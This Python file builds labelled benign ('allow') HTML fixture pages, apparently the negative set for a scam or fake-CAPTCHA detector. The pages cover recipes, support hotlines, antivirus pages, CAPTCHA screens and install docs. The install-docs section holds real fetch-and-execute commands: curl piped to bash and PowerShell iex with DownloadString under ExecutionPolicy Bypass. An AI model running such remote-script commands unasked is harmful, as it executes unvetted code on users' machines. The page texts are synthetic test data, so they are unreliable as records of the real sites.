from common import add, page, bare, paras, ul, ol, codebox, COPY_JS, esc

L = "en"


def A(slug, url, cat, note, html_text, repo=None):
    host = url.split("/")[2]
    add("en-" + slug, "allow", url, cat, L, note, repo or ("site:" + host), html_text)


NAV = (("Home", "/"), ("About", "/about"), ("Contact", "/contact"))

# ---------------------------------------------------------------- word collisions
A("recipe-apple-crumble", "https://www.bbcgoodfood.com/recipes/apple-crumble", "ordinary-recipe",
  "Recipe: apple crumble; 'Apple' everywhere, print button, timer",
  page(L, "Easy apple crumble recipe", "<h1>Easy Apple Crumble</h1>" + paras(
      "A classic pud: Bramley apples under a buttery oat topping. Ready in 55 minutes, serves 6.",
      "Tip: if your apples are very sharp, add a little more sugar. Braeburn or Granny Smith work too.")
      + "<h2>Ingredients</h2>" + ul("800g Bramley apples, peeled and chopped", "50g caster sugar", "1 tsp cinnamon",
                                    "120g plain flour", "80g cold butter", "50g rolled oats")
      + "<h2>Method</h2>" + ol("Heat oven to 190C/170C fan.", "Toss the apples with sugar and cinnamon.",
                                "Rub butter into flour, stir in oats, scatter over.", "Bake 35-40 mins until golden.")
      + '<button class="btn" onclick="window.print()">Print recipe</button> <button class="btn" id="t">Start 40-minute timer</button><span id="left"></span>',
      "BBC Good Food", (("Recipes", "/recipes"), ("Health", "/health")),
      "&copy; Immediate Media Company", script="""document.getElementById('t').onclick=function(){var s=2400;var i=setInterval(function(){s--;document.getElementById('left').textContent=' '+Math.floor(s/60)+':'+('0'+s%60).slice(-2);if(s<=0){clearInterval(i);new Audio('ding.mp3').play();}},1000);};"""))

A("recipe-apple-cider-donuts", "https://www.seriouseats.com/apple-cider-doughnuts", "ordinary-recipe",
  "Recipe blog: apple cider doughnuts, Apple and cider words, jump-to-recipe",
  page(L, "Apple Cider Doughnuts Recipe", "<h1>Apple Cider Doughnuts</h1>" + paras(
      "Reducing a quart of fresh apple cider concentrates its flavor so the doughnuts taste unmistakably of apple.",
      "Why it works: the reduced cider replaces most of the milk; a hot oil at 375F gives a crisp shell.",
      "Warning: hot oil is dangerous. Keep a lid nearby and never leave the pot unattended.")
      + ol("Simmer 4 cups cider to 1 cup.", "Whisk flour, baking powder, spices.", "Cut, fry 1 minute a side.",
           "Toss in cinnamon sugar while warm.") + "<p>Rated 4.8 by 312 readers.</p>",
      "Serious Eats", (("Recipes", "/recipes"), ("Techniques", "/techniques"))))

A("shop-window-cleaning", "https://www.crystalclearwindows.co.uk/", "ordinary-shop",
  "Local window-cleaning firm 'Crystal Clear Windows': 'Windows' in name, phone call-to-action, free quote",
  page(L, "Crystal Clear Windows - Window Cleaning in Leeds", "<h1>Sparkling windows, every time</h1>" + paras(
      "We clean windows, conservatories, gutters and fascias across Leeds and Bradford since 2004.",
      "Call us today for a free quote: <strong>0113 496 0123</strong> (Mon-Sat 8am-6pm).",
      "Fully insured. Pure-water reach-and-wash system - no ladders at your windows.")
      + "<h2>Prices</h2><table><tr><th>Home</th><th>From</th></tr><tr><td>2-bed terrace</td><td>&pound;12</td></tr><tr><td>3-bed semi</td><td>&pound;16</td></tr><tr><td>Detached</td><td>&pound;22</td></tr></table>"
      + '<a class="btn" href="tel:01134960123">Call now</a>',
      "Crystal Clear Windows", (("Services", "/services"), ("Areas", "/areas"), ("Quote", "/quote")), "Crystal Clear Windows Ltd, Leeds LS6"))

A("travel-amazon-river", "https://www.lonelyplanet.com/brazil/the-amazon", "ordinary-travel",
  "Travel guide to the Amazon river: 'Amazon' brand word in a geography context, malaria/vaccine warnings",
  page(L, "The Amazon travel guide", "<h1>The Amazon</h1>" + paras(
      "The Amazon basin covers some 7 million square kilometres; Manaus is the usual gateway for river trips.",
      "Health: yellow fever vaccination is recommended; ask your doctor about malaria protection. Dengue virus is present in the wet season.",
      "Safety alert: river levels change quickly between December and May; follow your guide's instructions.")
      + "<h2>Top experiences</h2>" + ul("Meeting of the Waters", "Jungle lodges on the Rio Negro", "Pink river dolphins"),
      "Lonely Planet", (("Destinations", "/places"), ("Articles", "/articles"))))

A("sports-edge-hockey", "https://www.nhl.com/news/edge-stats-defenders", "ordinary-sports",
  "Hockey stats article: 'NHL EDGE' tracking and 'defenders' (Edge/Defender as sports words)",
  page(L, "NHL EDGE stats: fastest defenders this season", "<h1>NHL EDGE: the fastest defenders of 2026-27</h1>" + paras(
      "NHL EDGE puck and player tracking shows three defenders topping 23 mph skating speed this season.",
      "The top defender recorded 41 bursts over 20 mph; his team's penalty kill is ranked first.",
      "Watch the highlights below - video plays with sound when you press play.")
      + '<video controls width="640" poster="poster.jpg"><source src="edge-highlights.mp4" type="video/mp4"></video>',
      "NHL.com", (("Scores", "/scores"), ("Stats", "/stats"), ("Video", "/video"))))

A("sports-defender-soccer", "https://www.espn.com/soccer/story/defender-injury-update", "ordinary-sports",
  "Soccer news: star defender injury, 'Windows' transfer window, 'alert' in breaking-news ribbon",
  page(L, "Defender out for six weeks - ESPN", '<div style="background:#c00;color:#fff;padding:6px">BREAKING ALERT: Transfer window update</div><h1>Star defender out for six weeks with hamstring injury</h1>' + paras(
      "The club confirmed the centre-back will miss the next eight matches. The January transfer window opens in 24 days.",
      "The manager said the team will not panic-buy: 'We have defenders who can step in.'"),
      "ESPN", (("Soccer", "/soccer"), ("NFL", "/nfl"))))

A("car-land-rover-defender", "https://www.caranddriver.com/land-rover/defender", "ordinary-review",
  "Car review: Land Rover Defender (the word Defender), 'Secure Tracker' and warranty",
  page(L, "2027 Land Rover Defender Review", "<h1>2027 Land Rover Defender</h1>" + paras(
      "The Defender remains the most capable off-roader Land Rover sells; the V8 version runs 0-60 in 4.9 seconds.",
      "Safety: automatic emergency braking, lane-keeping and a Secure Tracker subscription that alerts you if the vehicle is moved.",
      "Warranty: 4 years/50,000 miles limited, 6 years corrosion.") + "<p>Price from $58,400.</p>",
      "Car and Driver", (("Reviews", "/reviews"), ("Buyer's Guide", "/buyers"))))

A("health-flu-virus", "https://www.cdc.gov/flu/about/index.html", "ordinary-medical",
  "CDC flu page: 'virus', 'infection', 'symptoms', 'call your doctor' - medical, not computer",
  page(L, "About Influenza (Flu) | CDC", "<h1>About Flu</h1>" + paras(
      "Influenza is a contagious respiratory illness caused by influenza viruses that infect the nose, throat and lungs.",
      "Emergency warning signs in adults: difficulty breathing, persistent chest pain, confusion. Call 911 or your doctor immediately.",
      "The best way to reduce your risk is to get vaccinated every year.")
      + ul("Fever or feeling feverish", "Cough", "Sore throat", "Muscle or body aches"),
      "CDC", (("Flu", "/flu"), ("Vaccines", "/vaccines")), "Centers for Disease Control and Prevention. 1-800-232-4636"))

A("health-computer-vision-syndrome", "https://www.aoa.org/healthy-eyes/eye-and-vision-conditions/computer-vision-syndrome", "ordinary-medical",
  "Eye-health page about 'computer vision syndrome': computer, screen, warning, symptoms",
  page(L, "Computer vision syndrome | AOA", "<h1>Computer vision syndrome</h1>" + paras(
      "Computer vision syndrome, also called digital eye strain, describes eye and vision problems from prolonged computer, tablet and phone use.",
      "Warning signs include headaches, blurred vision and dry eyes. Follow the 20-20-20 rule.",
      "Find a doctor of optometry near you."), "American Optometric Association", NAV))

A("locksmith-24h", "https://www.popalock.com/emergency-locksmith", "ordinary-shop",
  "Locksmith: 'Locked out? Call now 24/7', toll-free number, urgent words",
  page(L, "Emergency Locksmith - Locked Out? | Pop-A-Lock", "<h1>Locked out? We're on our way.</h1>" + paras(
      "Locked out of your home or car? Our technicians arrive in about 30 minutes, 24 hours a day.",
      "Call now: <strong>1-800-555-0147</strong>. No damage to your lock or door.",
      "We also rekey locks, install smart locks and open safes.") + '<a class="btn" href="tel:18005550147">Call now</a>',
      "Pop-A-Lock", (("Home", "/"), ("Auto", "/auto"), ("Locations", "/locations"))))

A("museum-trojan-horse", "https://www.metmuseum.org/art/collection/trojan-horse-amphora", "ordinary-museum",
  "Museum object page: 'Trojan horse' on an amphora",
  page(L, "Amphora with the Trojan Horse | The Met", "<h1>Amphora depicting the Trojan Horse</h1>" + paras(
      "Relief pithos, ca. 670 BCE. The wooden horse is shown with warriors peering from small windows in its side.",
      "The horse, left by the Greeks as an apparent gift, carried soldiers who opened the gates of Troy."),
      "The Met", (("Collection", "/art/collection"), ("Visit", "/visit"))))

A("chrome-plating-shop", "https://www.chromeplatingco.com/services", "ordinary-shop",
  "Chrome plating workshop: 'Chrome' repeated, 'restore', 'scan' of parts, phone",
  page(L, "Chrome Plating Services - Triple Chrome", "<h1>Show-quality chrome plating</h1>" + paras(
      "Triple chrome (copper, nickel, chrome) for bumpers, motorcycle parts and vintage trim.",
      "We scan every part for pitting and rust before quoting. Typical turnaround: 3 weeks.",
      "Questions? Call 1-800-555-0166 or email the shop.") + ul("Bumpers from $450", "Wheels from $300", "Small parts by quote"),
      "Triple Chrome Co.", NAV))

A("nws-tornado-warning", "https://www.weather.gov/safety/tornado-ww", "ordinary-weather",
  "NWS page on tornado watch vs warning: WARNING, take shelter immediately, siren",
  page(L, "Tornado Watch vs Warning | National Weather Service", "<h1>Know the difference: watch vs. warning</h1>" + paras(
      "<strong>Tornado Warning:</strong> take action! A tornado has been sighted or indicated by radar. Move to an interior room on the lowest floor.",
      "<strong>Tornado Watch:</strong> be prepared. Conditions favour tornadoes.",
      "Do not rely on outdoor sirens alone; have several ways to receive warnings, such as Wireless Emergency Alerts on your phone."),
      "National Weather Service", (("Safety", "/safety"), ("Forecast", "/forecast"))))

A("library-due-dates", "https://www.nypl.org/help/borrowing", "ordinary-library",
  "Library borrowing help: due dates, account blocked over $15 fines, renew, call",
  page(L, "Borrowing: due dates and renewals | NYPL", "<h1>Due dates, renewals and blocks</h1>" + paras(
      "Items are due 3 weeks after checkout. You may renew twice unless another patron has placed a hold.",
      "Your account will be blocked from borrowing if you owe more than $15 in replacement fees.",
      "Questions? Call ASK NYPL at 917-275-6975 or chat with a librarian."), "The New York Public Library", NAV))

A("firewall-building-code", "https://www.nfpa.org/news/fire-walls-vs-fire-barriers", "ordinary-article",
  "Fire-safety article: 'firewall', 'breach', 'protection' in building code context",
  page(L, "Fire walls vs. fire barriers | NFPA", "<h1>Fire walls, fire barriers and fire partitions</h1>" + paras(
      "A fire wall must remain standing even if construction on either side collapses; a breach voids its rating.",
      "Protection of openings: doors in a 3-hour wall need 3-hour protection."), "NFPA", NAV))

A("python-windows-faq", "https://docs.python.org/3/faq/windows.html", "ordinary-docs",
  "Python on Windows FAQ: 'Windows' everywhere, command prompt, 'cmd', Win+R-free",
  page(L, "Python on Windows FAQ", "<h1>Python on Windows FAQ</h1><h2>How do I run a Python program under Windows?</h2>" + paras(
      "Open a command prompt window (search for 'cmd' in the Start menu) and type <code>py</code>.",
      "If you see 'is not recognized as an internal or external command', the launcher is not installed.")
      + "<pre>C:\\Users\\YourName&gt; py hello.py</pre>", "Python docs", (("Docs", "/3/"), ("FAQ", "/3/faq/"))))

A("safari-kenya", "https://www.andbeyond.com/destinations/africa/kenya/safari", "ordinary-travel",
  "Safari operator: 'Safari' in a travel sense, booking deadline, call our travel experts",
  page(L, "Kenya safari holidays | andBeyond", "<h1>Kenya Safari</h1>" + paras(
      "Witness the Great Migration in the Masai Mara between July and October.",
      "Speak to a safari expert: +1 888 555 0199. Early-booking offer ends 31 January."), "andBeyond", NAV))

A("norton-motorcycles", "https://www.nortonmotorcycles.com/en-gb/v4sv", "ordinary-shop",
  "Norton Motorcycles product page: the name Norton, 'protection' plan, book a test ride",
  page(L, "Norton V4SV | Norton Motorcycles", "<h1>Norton V4SV</h1>" + paras(
      "Hand-built in Solihull. 185 bhp, carbon-fibre bodywork, Öhlins suspension.",
      "Every Norton comes with a 3-year warranty and paint protection plan.",
      "Book a test ride at your nearest dealer."), "Norton Motorcycles", (("Models", "/models"), ("Dealers", "/dealers"))))

A("bug-exterminator", "https://www.orkin.com/pests/bed-bugs", "ordinary-shop",
  "Pest control: infestation, 'remove', 'call now for a free inspection', toll-free",
  page(L, "Bed Bug Control & Treatment | Orkin", "<h1>Bed bug infestation? Act fast.</h1>" + paras(
      "Bed bugs spread quickly; a single female can lay 500 eggs. Early detection is key.",
      "Schedule a free inspection: call 1-877-555-0123.", "Orkin Pros are trained to find and remove every stage."),
      "Orkin", NAV))

# ---------------------------------------------------------------- vendor/help with hotlines
A("ms-support-contact", "https://support.microsoft.com/en-us/contactus", "ordinary-support",
  "Microsoft's own contact page: get help, chat, call back; scam warning in footer",
  page(L, "Contact Microsoft Support", "<h1>Contact Microsoft Support</h1>" + paras(
      "Tell us what you need help with and we'll connect you to the right support option: chat, a call back, or community answers.",
      "Microsoft will never proactively reach out to you to provide unsolicited PC or technical support. Error and warning messages from Microsoft never include phone numbers.")
      + '<label>Describe your issue <input placeholder="e.g. Windows activation"></label> <button class="btn">Get help</button>',
      "Microsoft", (("Microsoft 365", "/microsoft-365"), ("Windows", "/windows"), ("Surface", "/surface"))))

A("apple-support-contact", "https://support.apple.com/en-us/contact", "ordinary-support",
  "Apple Support contact page: call 1-800-MY-APPLE, schedule a call, Apple ID locked help link",
  page(L, "Contact - Official Apple Support", "<h1>Contact Apple Support</h1>" + paras(
      "Talk to an Apple Support advisor: call 1-800-275-2273 (1-800-MY-APPLE), or we can call you.",
      "If your Apple Account is locked or disabled, follow the steps at iforgot.apple.com.",
      "Apple never asks you to pay with gift cards for support.") + ul("iPhone", "Mac", "Apple ID", "Billing & Subscriptions"),
      "Apple", (("Support", "/"), ("Store", "/store"))))

A("google-account-recovery", "https://support.google.com/accounts/answer/7682439", "ordinary-support",
  "Google help: 'Someone may have your password' - security alert explained, secure your account",
  page(L, "How to recover your Google Account - Google Account Help", "<h1>Secure a hacked or compromised Google Account</h1>" + paras(
      "If you notice unfamiliar activity on your Google Account, Gmail or other Google products, someone else may be using it.",
      "Google will never ask you for your password or verification code by phone or email.")
      + ol("Go to the account recovery page", "Answer questions to confirm it's your account", "Reset your password"),
      "Google", (("Help Center", "/"), ("Community", "/community"))))

A("chase-lost-card", "https://www.chase.com/digital/customer-service/lost-card", "bank-hotline",
  "Chase lost/stolen card: call immediately 1-800, 24/7, lock your card",
  page(L, "Report a lost or stolen card | Chase", "<h1>Lost or stolen card?</h1>" + paras(
      "Lock your card right away in the Chase Mobile app, then call us at 1-800-935-9935 (24/7).",
      "If you see transactions you don't recognize, we'll help you dispute them. Chase will never ask for your full PIN."),
      "Chase", (("Checking", "/checking"), ("Credit cards", "/cards"))))

A("att-support-contact", "https://www.att.com/support/contact-us/", "ordinary-support",
  "AT&T contact us: 1-800 numbers, account suspended help, repair ticket",
  page(L, "Contact AT&T - Customer service", "<h1>Contact us</h1>" + paras(
      "Wireless: 800.331.0500 or 611 from your AT&T phone. Internet repair: 800.288.2020.",
      "Service suspended for non-payment? Make a payment in myAT&T to restore it within 1 hour.")
      + "<p>Hours: 7am-9pm local time, 7 days a week.</p>", "AT&T", (("Wireless", "/wireless"), ("Internet", "/internet"))))

A("dell-support-phone", "https://www.dell.com/support/contents/en-us/category/contact-information", "remote-support-vendor",
  "Dell support: call tech support 1-800, SupportAssist remote session with your service tag",
  page(L, "Contact Dell Technical Support", "<h1>Contact Technical Support</h1>" + paras(
      "Enter your Service Tag to see your warranty and support options.",
      "Premium Support customers: call 1-800-624-9896. A technician may connect remotely with SupportAssist after you give permission.")
      + '<input placeholder="Service Tag"> <button class="btn">Submit</button>', "Dell", (("Support", "/support"), ("Drivers", "/drivers"))))

A("paypal-resolution", "https://www.paypal.com/us/cshelp/article/how-do-i-report-a-fraudulent-transaction", "ordinary-support",
  "PayPal help: report unauthorized transaction, account limited, call us",
  page(L, "How do I report a fraudulent transaction? | PayPal US", "<h1>Report unauthorized activity</h1>" + paras(
      "If you see a payment you didn't make, report it in the Resolution Center within 120 days.",
      "Your account may be temporarily limited while we review. Call 1-888-221-1161 for help.",
      "We'll never ask you to call an unknown number or pay with gift cards."), "PayPal", NAV))

A("amazon-customer-service", "https://www.amazon.com/gp/help/customer/contact-us", "ordinary-support",
  "Amazon contact us: request a call, chat; 'unexpected order?' advice",
  page(L, "Amazon.com Help: Contact Us", "<h1>Contact Us</h1>" + paras(
      "Select an order, then choose 'Request a phone call' and we'll call you.",
      "Got an unexpected call or email about an order? Amazon will never ask you to install software or pay over the phone.")
      + '<button class="btn">Start chatting now</button>', "Amazon", (("Your Orders", "/orders"), ("Returns", "/returns"))))

A("wellsfargo-fraud", "https://www.wellsfargo.com/privacy-security/fraud/report/", "bank-hotline",
  "Wells Fargo report fraud: phone numbers for each product, 'act quickly'",
  page(L, "Report Fraud | Wells Fargo", "<h1>Report fraud</h1>" + paras(
      "If you suspect fraud on your account, act quickly. Call 1-800-869-3557, available 24 hours.",
      "Suspicious email or text? Forward it to reportphish@wellsfargo.com and delete it.")
      + "<table><tr><td>Consumer accounts</td><td>1-800-869-3557</td></tr><tr><td>Credit cards</td><td>1-800-642-4720</td></tr></table>",
      "Wells Fargo", NAV))

A("hp-support-virtual-agent", "https://support.hp.com/us-en/contact", "remote-support-vendor",
  "HP support contact: virtual agent, call an agent, remote session after case",
  page(L, "HP Customer Support - Contact", "<h1>Contact HP Support</h1>" + paras(
      "Enter your product serial number to find options. You may be asked to allow a remote session so an agent can view your screen.",
      "Phone support: 1-800-474-6836."), "HP", NAV))

A("verizon-fios-outage", "https://www.verizon.com/support/residential/internet/outage", "ordinary-support",
  "Verizon outage page: 'service interruption detected', troubleshoot, call",
  page(L, "Check for outages | Verizon", "<h1>Service outage in your area</h1>" + paras(
      "We've detected a service interruption affecting Fios Internet in your area. Estimated restoration: 4:30 PM.",
      "No need to call - we'll text you when it's fixed. For other issues call 1-800-837-4966."), "Verizon", NAV))

# ---------------------------------------------------------------- security vendors
def vendor(slug, url, brand, title, body, note):
    A(slug, url, "ordinary-security-vendor", note, page(L, title, body, brand, (("Products", "/products"), ("Support", "/support"), ("Renew", "/renew"))))


vendor("norton-360", "https://us.norton.com/products/norton-360-deluxe", "Norton",
       "Norton 360 Deluxe - Antivirus, VPN & more",
       "<h1>Norton 360 Deluxe</h1>" + paras("Real-time threat protection against viruses, ransomware, spyware and other online threats.",
       "Screenshot: the Norton dashboard after a scan - '3 threats detected and removed. You are protected.'",
       "First year $49.99, then $119.99/yr. 60-day money-back guarantee. Auto-renews; cancel anytime.")
       + '<a class="btn" href="/buy">Buy now</a> <a href="/download">Download free trial</a>',
       "Norton product page: threats detected screenshot caption, virus words, renewal price")
vendor("mcafee-total", "https://www.mcafee.com/en-us/antivirus/mcafee-total-protection.html", "McAfee",
       "McAfee Total Protection | Antivirus",
       "<h1>McAfee+ and Total Protection</h1>" + paras("Award-winning antivirus blocks viruses, malware, ransomware and spyware.",
       "Scam Detector flags risky texts, emails and videos. Identity monitoring alerts you if your info is found on the dark web.",
       "Image: a scan result showing 'Your PC is at risk: 2 issues found' with a Fix button.") + '<a class="btn" href="/buy">Get protection</a>',
       "McAfee product page: 'Your PC is at risk' demo scan text, dark web alerts")
vendor("eset-home", "https://www.eset.com/us/home/internet-security/", "ESET",
       "ESET Internet Security | ESET",
       "<h1>ESET Home Security Premium</h1>" + paras("Stay safe with multilayered protection against ransomware, phishing and hackers.",
       "Browser Privacy & Security warns you about fake shops and scam pages.", "Free 30-day trial - download now."),
       "ESET product page: threats, ransomware, hackers, download trial")
vendor("malwarebytes-premium", "https://www.malwarebytes.com/premium", "Malwarebytes",
       "Malwarebytes Premium - Antivirus",
       "<h1>Crush online threats</h1>" + paras("Our scan found 1,298 threats on the average infected PC in our lab tests.",
       "Browser Guard blocks tech support scam pages and browser lockers.", "Download free, upgrade for real-time protection."),
       "Malwarebytes premium page: tech support scam blocking feature, threats found numbers")
vendor("bitdefender-total", "https://www.bitdefender.com/en-us/consumer/total-security", "Bitdefender",
       "Bitdefender Total Security",
       "<h1>Bitdefender Total Security</h1>" + paras("Unbeatable threat detection stops attacks before they start.",
       "Includes a Scam Copilot chat to check suspicious messages.", "Protect 5 devices for $49.99 first year."),
       "Bitdefender product page: threat detection, scam words")
vendor("windows-security-docs", "https://support.microsoft.com/en-us/windows/virus-and-threat-protection-in-the-windows-security-app", "Microsoft",
       "Virus and threat protection in the Windows Security app",
       "<h1>Virus &amp; threat protection in Windows Security</h1>" + paras(
       "Windows Security continually scans your device for malware, viruses and security threats.",
       "If threats are found you'll see 'Threats found. Start the recommended actions.' Select Start actions to quarantine them.",
       "Microsoft Defender Antivirus is built into Windows 11; no phone call is ever required."),
       "Microsoft help page on Windows Security: 'Threats found' message quoted, Microsoft Defender")
vendor("kaspersky-premium", "https://usa.kaspersky.com/premium", "Kaspersky",
       "Kaspersky Premium",
       "<h1>Kaspersky Premium</h1>" + paras("Blocks viruses, ransomware and cryptojacking. Remote expert help included - connect a Kaspersky expert to your PC.",
       "Call our premium support line from the app."), "Kaspersky page: remote expert help, viruses")
vendor("avast-free", "https://www.avast.com/free-antivirus-download", "Avast",
       "Free Antivirus Download for PC | Avast",
       "<h1>Free Antivirus for Windows</h1>" + paras("Download Avast Free Antivirus for Windows 11, 10. Protects against viruses and malware.",
       "After download, open avast_free_antivirus_setup.exe and click Install.") + '<a class="btn" href="avast_free_antivirus_setup_online.exe" download>Free download</a>',
       "Avast free download: 'for Windows', .exe download, virus words")

# ---------------------------------------------------------------- captcha / challenge
A("cf-just-a-moment", "https://www.g2.com/products/slack/reviews", "captcha",
  "Cloudflare managed challenge interstitial: 'Verify you are human', ray ID, no paste steps",
  bare(L, "Just a moment...", '<div style="max-width:600px;margin:80px auto;font-family:sans-serif"><h1>www.g2.com</h1><h2>Verify you are human by completing the action below.</h2><div style="border:1px solid #ccc;padding:16px;width:300px"><input type="checkbox" id="cb"> <label for="cb">Verify you are human</label></div><p>www.g2.com needs to review the security of your connection before proceeding.</p><p class="small">Ray ID: 8f2a1c0d9e7b4a12 &middot; Performance &amp; security by Cloudflare</p></div>',
       script="setTimeout(function(){document.title='Just a moment...';},1000);"))
A("cf-blocked", "https://community.example-forum.org/login", "captcha",
  "Cloudflare WAF block page: 'Sorry, you have been blocked', Ray ID, email site owner",
  bare(L, "Attention Required! | Cloudflare", '<h1>Sorry, you have been blocked</h1><h2>You are unable to access example-forum.org</h2><p>This website is using a security service to protect itself from online attacks. The action you just performed triggered the security solution.</p><p>What can I do to resolve this? You can email the site owner to let them know you were blocked.</p><p>Cloudflare Ray ID: 8f2a1c0d9e7b4a99</p>'),
  repo="site:www.cloudflare.com")
A("recaptcha-contact-form", "https://www.lawfirm-example.com/contact", "captcha",
  "Law firm contact form with reCAPTCHA checkbox 'I'm not a robot' and phone",
  page(L, "Contact our attorneys", "<h1>Free case review</h1><form><p><input placeholder='Name'></p><p><textarea placeholder='Tell us what happened'></textarea></p><div style='border:1px solid #d3d3d3;width:300px;padding:12px'><input type=checkbox> I'm not a robot <span class=small>reCAPTCHA Privacy - Terms</span></div><button class=btn>Submit</button></form><p>Or call 1-800-555-0112 - available 24/7.</p>",
       "Smith &amp; Partners LLP", NAV), repo="site:developers.google.com")
A("hcaptcha-signup", "https://discord.com/register", "captcha",
  "Signup with hCaptcha image challenge 'Please click each image containing a bus'",
  bare(L, "Discord | Register", '<h1>Create an account</h1><form><input placeholder="Email"><input placeholder="Password"></form><div role="dialog" style="border:1px solid #ccc;width:400px;padding:10px"><p><strong>Please click each image containing a bus</strong></p><div style="display:grid;grid-template-columns:repeat(3,100px);gap:4px"><img alt="" src="c1.jpg"><img alt="" src="c2.jpg"><img alt="" src="c3.jpg"></div><button>Verify</button><span class=small>hCaptcha</span></div>'))
A("google-sorry", "https://www.google.com/sorry/index", "captcha",
  "Google 'unusual traffic from your computer network' page with reCAPTCHA",
  bare(L, "https://www.google.com/search?q=windows+defender", '<div style="font-family:arial"><p>About this page</p><p>Our systems have detected unusual traffic from your computer network. This page checks to see if it\'s really you sending the requests, and not a robot.</p><div style="border:1px solid #ccc;width:300px;padding:12px"><input type=checkbox> I\'m not a robot</div><p>Why did this happen?</p><p>IP address: 203.0.113.45<br>Time: 2026-12-07T14:02:11Z<br>URL: https://www.google.com/search?q=windows+defender</p></div>'))
A("amazon-robot-check", "https://www.amazon.com/errors/validateCaptcha", "captcha",
  "Amazon 'Enter the characters you see below' robot check",
  bare(L, "Amazon.com", '<h4>Enter the characters you see below</h4><p>Sorry, we just need to make sure you\'re not a robot. For best results, please make sure your browser is accepting cookies.</p><img src="captcha.jpg" alt="captcha"><form><input placeholder="Type characters"><button>Continue shopping</button></form><p><a href="#">Try different image</a></p>'))
A("press-hold-human", "https://www.zillow.com/homes/for_sale/", "captcha",
  "PerimeterX/HUMAN 'Press & Hold to confirm you are a human (and not a bot)'",
  bare(L, "Access to this page has been denied", '<h1>Press &amp; Hold to confirm you are a human (and not a bot).</h1><div id="px-captcha" style="width:250px;height:50px;border:2px solid #333;text-align:center;line-height:50px">Press &amp; Hold</div><p>Reference ID 9b2c-88aa-11ef</p>',
       script="var b=document.getElementById('px-captcha');var t;b.onmousedown=function(){t=setTimeout(function(){b.textContent='Thank you';},4000);};b.onmouseup=function(){clearTimeout(t);};"),
  repo="site:www.humansecurity.com")
A("turnstile-login", "https://dash.cloudflare.com/login", "captcha",
  "Login with Cloudflare Turnstile widget 'Success!'",
  page(L, "Log in | Cloudflare", "<h1>Log in</h1><form><p><input placeholder=Email></p><p><input type=password placeholder=Password></p><div class=cf-turnstile style='border:1px solid #ccc;width:300px;padding:10px'>&#10003; Success! <span class=small>Cloudflare - Privacy - Terms</span></div><button class=btn>Log in</button></form>", "Cloudflare", ()))

# ---------------------------------------------------------------- install docs with paste steps
def docs(slug, url, title, h1, intro, cmds, note, extra="", repo=None):
    body = "<h1>%s</h1>" % h1 + paras(*intro) + "".join(
        ("<p>%s</p>" % lbl) + codebox(c) for lbl, c in cmds) + extra
    add("en-" + slug, "allow", url, "install-docs-copy", L, note, repo or "site:" + url.split("/")[2],
        page(L, title, body, h1.split(" ")[0], (("Docs", "/docs"), ("Blog", "/blog"), ("Download", "/download")), script=COPY_JS))


docs("homebrew", "https://brew.sh/", "Homebrew - The Missing Package Manager for macOS", "Homebrew",
     ["Install Homebrew: paste that in a macOS Terminal or Linux shell prompt.",
      "The script explains what it will do and then pauses before it does it."],
     [("Install", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"')],
     "Homebrew home: paste a curl|bash command into macOS Terminal, copy button")
docs("rustup", "https://rustup.rs/", "rustup.rs - The Rust toolchain installer", "rustup",
     ["To install Rust, if you are running a Unix such as Linux or macOS, run the following in your terminal, then follow the on-screen instructions.",
      "If you are running Windows, download and run rustup-init.exe."],
     [("Unix", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")],
     "rustup: curl | sh in terminal, rustup-init.exe download for Windows",
     extra='<a class="btn" href="rustup-init.exe">DOWNLOAD RUSTUP-INIT.EXE (64-BIT)</a>')
docs("chocolatey", "https://chocolatey.org/install", "Chocolatey Software | Installing Chocolatey", "Install Chocolatey",
     ["Run an administrative PowerShell: right-click Start (or press Win+X) and choose Terminal (Admin).",
      "Paste the copied text into your shell and press Enter. Wait a few seconds for the command to complete."],
     [("Install", "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")],
     "Chocolatey install: Win+X admin PowerShell, paste, Enter; iex DownloadString")
docs("scoop", "https://scoop.sh/", "Scoop - A command-line installer for Windows", "Scoop",
     ["Open a PowerShell terminal (version 5.1 or later) and from the PS C:\\&gt; prompt, run:"],
     [("1", "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser"),
      ("2", "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression")],
     "Scoop: PowerShell irm | iex install, copy buttons")
docs("bun", "https://bun.sh/docs/installation", "Installation | Bun Docs", "Installation",
     ["Bun ships as a single executable. macOS and Linux:", "Windows: paste into PowerShell."],
     [("macOS/Linux", "curl -fsSL https://bun.sh/install | bash"),
      ("Windows", 'powershell -c "irm bun.sh/install.ps1 | iex"')],
     "Bun install docs: curl|bash and powershell -c irm|iex")
docs("deno", "https://docs.deno.com/runtime/getting_started/installation/", "Installation | Deno Docs", "Installation",
     ["Deno works on macOS, Linux and Windows."],
     [("Shell", "curl -fsSL https://deno.land/install.sh | sh"), ("PowerShell", "irm https://deno.land/install.ps1 | iex")],
     "Deno install: curl|sh and irm|iex")
docs("uv", "https://docs.astral.sh/uv/getting-started/installation/", "Installing uv", "Installing uv",
     ["Use the standalone installer."], [("macOS and Linux", "curl -LsSf https://astral.sh/uv/install.sh | sh"),
      ("Windows", 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"')],
     "uv install docs: powershell -ExecutionPolicy ByPass -c irm|iex")
docs("powershell7", "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows", "Installing PowerShell on Windows", "Installing PowerShell on Windows",
     ["To install PowerShell on Windows, use winget or download the MSI package.", "Press Win+R, type powershell, and press Enter to open Windows PowerShell 5.1, then run:"],
     [("winget", "winget install --id Microsoft.PowerShell --source winget"),
      ("script", "iex \"& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI\"")],
     "Microsoft Learn: Win+R powershell Enter, iex irm script")
docs("ohmyposh", "https://ohmyposh.dev/docs/installation/windows", "Windows | Oh My Posh", "Windows installation",
     ["Open a PowerShell prompt and run:"], [("winget", "winget install JanDeDobbeleer.OhMyPosh -s winget"),
      ("manual", "Set-ExecutionPolicy Bypass -Scope Process -Force; Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://ohmyposh.dev/install.ps1'))")],
     "Oh My Posh Windows install: DownloadString | Invoke-Expression")
